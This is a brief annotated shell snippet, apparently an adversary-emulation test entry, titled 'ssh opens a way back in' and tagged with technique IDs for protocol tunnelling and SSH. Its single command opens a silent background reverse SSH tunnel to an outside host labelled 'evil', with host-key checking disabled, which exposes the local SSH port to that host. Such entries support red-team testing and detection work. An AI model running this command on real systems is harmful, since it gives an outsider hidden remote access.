# title: ssh opens a way back in
# technique: T1572 T1021.004
# needs: ssh

timeout 1 ssh -f -N -o BatchMode=yes -o StrictHostKeyChecking=no -R 2222:127.0.0.1:22 evil@192.88.99.7; true
